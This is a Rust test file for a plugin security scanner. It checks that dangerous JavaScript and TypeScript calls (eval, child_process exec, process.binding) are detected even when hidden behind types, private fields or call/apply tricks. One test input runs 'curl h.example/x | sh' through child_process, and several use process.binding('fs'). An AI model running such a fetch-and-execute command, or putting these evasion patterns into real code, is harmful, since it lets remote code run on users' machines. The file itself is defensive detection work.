//! Code inside typed bodies, typed fields and private names: each way to a call next to a benign twin.

use plugward_scanner::Profile;

use crate::common::check;

/// Where a call stands: `@`.
const BODIES: &[&str] = &[
    "function f(a): void { @ }",
    "function f(a): Promise<void> { @ }",
    "function f(a): Promise<Array<string>> { @ }",
    "async function f<T>(a: T): Promise<void>{@}",
    "export default function (a): Map<string, { b: C<D> }> { @ }",
    "const f = function (a): void { @ }",
    "class A { f(a): void { @ } }",
    "class A { static async f<T>(a?: T): Promise<void> { @ } }",
    "class A { get f(): Set<string> { @ } }",
    "class A { 'f'(): void { @ } }",
    "class A { [f](): Promise<void>\n{ @ } }",
    "class A { #f(): void { @ } }",
    "class A extends B<C> { f(): D<E> { @ } }",
    "class A implements B<C> { f(): void { if (a) { @ } } }",
    "abstract class A { abstract f(): void; g = <B>{ a: 1 }; h(): void { @ } }",
    "const o = { f(a): void { @ } }",
    "const o = { async f(): Promise<void> { @ }, g: 1 }",
    "function f(): () => void { @ }",
    "function f(): { a: B<C> } { @ }",
    "const o = <B>{ a: 1 }; function f(): void { @ }",
    "type A = B<C>\n{ @ }",
    "let a: void\n{ @ }",
    "const o = <B>\n{ a: 1 }; @",
];

#[test]
fn a_body_behind_any_type_is_read() {
    for body in BODIES {
        for path in ["a.ts", "a.mts"] {
            let found = |call: &str| check(Profile::StrictPlugin, path, &body.replace('@', call));
            let seen = found("eval(x)");
            assert!(seen.iter().any(|line| line.contains("danger exec/eval")), "{body}: {seen:?}");
            let seen = found("const r = require; r('child_process').exec('curl h.example/x | sh')");
            assert!(seen.iter().any(|line| line.contains("danger")), "{body}: {seen:?}");
            let twin = found("evaluate(x); const o = { eval(x) { return x } }");
            assert!(!twin.iter().any(|line| line.contains("danger")), "{body}: {twin:?}");
        }
    }
}

/// How the process comes to be `p`, with what stands for it as `@`.
const WAYS: &[(&str, &str)] = &[
    ("a.ts", "class A { private readonly p: any = @; f() { this.p.binding('fs') } }"),
    ("a.ts", "class A { p: any[] = @; f() { this.p.binding('fs') } }"),
    ("a.ts", "class A { p!: any = @; f() { this.p.binding('fs') } }"),
    ("a.ts", "class A { #p: any = @; f() { this.#p.binding('fs') } }"),
    ("a.ts", "function f(p): void { p.binding('fs') } f(@)"),
    ("a.ts", "function f<T>(p: T) { p.binding('fs') } f(@)"),
    ("a.ts", "const f = <T,>(p: T): void => { p.binding('fs') }; f(@)"),
    ("a.ts", "function f(this: any, p: any) { p.binding('fs') } f(@)"),
    ("a.js", "class A { #p = @; f() { this.#p.binding('fs') } }"),
    ("a.js", "class A { static #p = @; static { A.#p.binding('fs') } }"),
    ("a.js", "class A { #p; constructor() { this.#p = @ } f() { this.#p.binding('fs') } }"),
    ("a.js", "g(); const [p] = [@]; p.binding('fs')"),
    ("a.js", "g(); let p; [p] = [@]; p.binding('fs')"),
    ("a.js", "g(); for (const p of [@]) p.binding('fs')"),
    ("a.js", "g(); const l = [@]; l[0].binding('fs')"),
    ("a.js", "const o = {['p']: @}; o.p.binding('fs')"),
    ("a.js", "const {['p']: q} = {p: @}; q.binding('fs')"),
    ("a.js", "const k = 'p', o = {[k]: @}; o.p.binding('fs')"),
    ("a.js", "const o = {p: @}; const {p} = o; p.binding('fs')"),
    ("a.js", "const o = {p: @}; function f() { let {p: q} = o; q.binding('fs') }"),
    ("a.js", "g(); const l = [1, @]; const [, p] = l; p.binding('fs')"),
    ("a.js", "function f(p) { p.binding('fs') } f.call(null, @)"),
    ("a.js", "function f(p) { p.binding('fs') } f.apply(null, [@])"),
    ("a.js", "function f(p) { p.binding('fs') } f.bind(null, @)()"),
    ("a.js", "const f = function (p) { p.binding('fs') }; f.call(null, @)"),
    ("a.js", "const f = () => @; f.call(null).binding('fs')"),
    ("a.js", "const f = p => p; f.apply(null, [@]).binding('fs')"),
];

#[test]
fn what_fields_patterns_and_parameters_are_given_is_followed() {
    for (path, way) in WAYS {
        let found = |value: &str| check(Profile::StrictPlugin, path, &way.replace('@', value));
        for value in ["process", "globalThis.process"] {
            let seen = found(value);
            assert!(
                seen.iter().any(|line| line.contains("danger native/process-binding")),
                "{way}: {seen:?}"
            );
        }
        let twin = found("ui.process");
        assert!(!twin.iter().any(|line| line.contains("danger")), "{way}: {twin:?}");
    }
}

#[test]
fn what_another_field_or_parameter_is_given_is_not_taken_for_it() {
    for (path, text) in [
        ("a.ts", "class A { a: any = process; p: any; f() { this.p.binding('fs') } }"),
        ("a.ts", "class A { p: process = b; f() { this.p.binding('fs') } }"),
        ("a.ts", "interface A { eval(x): void; f(): Promise<void> }"),
        ("a.ts", "type A = { f(): void; eval(x): Promise<void>; g: B<C> }"),
        ("a.ts", "declare function f(): Promise<void>\nconst a = <B>{ eval(x) { return x } }"),
        ("a.ts", "const o = { f(): void {}, eval(x): void {} }"),
        ("a.js", "class A { #p = process; p = b; f() { this.p.binding('fs') } }"),
        ("a.js", "const o = {p: process, q: b}; const {q: p} = o; p.binding('fs')"),
        ("a.js", "const l = [process, b]; const [, p] = l; p.binding('fs')"),
        ("a.js", "function f(p) { p.binding('fs') } f.call(process, b)"),
        ("a.js", "function f(p) { p.binding('fs') } f.apply(process, [b])"),
        ("a.js", "const f = p => p; f.apply(null, [process]); f(ui).binding('fs')"),
        ("a.js", "setTimeout.apply(null, [function () { return 'x' }, 1])"),
    ] {
        let found = check(Profile::StrictPlugin, path, text);
        assert!(!found.iter().any(|line| line.contains("danger")), "{text}: {found:?}");
    }
}

#[test]
fn a_guess_of_a_body_hides_no_call_in_a_regex() {
    for (path, text) in [
        ("a.js", "var x = function let() {} / 1; eval(y) / 1;"),
        ("a.js", "var x = function* let() {} / 1; eval(y) / 1;"),
        ("a.ts", "void\n{} / 1; eval(y) / 1"),
        ("a.ts", "x = a >\n{} / 1; eval(y) / 1"),
        ("a.ts", "declare function f(): number\nx = a > {} / 1; eval(y) / 1"),
        ("a.js", "var r = eval, yield = 4;\nfunction f(r) { return yield / 2 } /* / */\nr(y);"),
    ] {
        let found = check(Profile::StrictPlugin, path, text);
        assert!(found.iter().any(|line| line.ends_with("danger exec/eval")), "{text}: {found:?}");
    }
    for (path, text) in
        [("a.js", "var x = function let() {} / 1; f(y) / 1;"), ("a.ts", "void\n{} / 1; f(y) / 1")]
    {
        let found = check(Profile::StrictPlugin, path, text);
        assert!(!found.iter().any(|line| line.contains("danger")), "{text}: {found:?}");
    }
}
